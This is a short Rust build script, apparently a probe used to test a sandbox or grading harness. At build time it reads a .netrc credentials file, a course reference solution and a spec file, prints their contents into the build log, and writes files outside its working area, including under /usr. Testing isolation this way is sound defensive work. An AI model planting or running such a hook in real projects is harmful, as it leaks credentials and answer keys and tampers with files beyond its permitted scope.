fn main() {
    let room = std::env::var("ROOM").unwrap();
    for name in ["home/.netrc", "course/reference/sum.py", "course/specs/rust.yaml"] {
        if let Ok(text) = std::fs::read_to_string(format!("{room}/{name}")) {
            println!("cargo:warning=harm: {text}");
            panic!("harm: {text}");
        }
    }
    let _ = std::fs::write(format!("{room}/world/precious"), "mine");
    let _ = std::fs::write("/usr/left-behind", "mine");
}
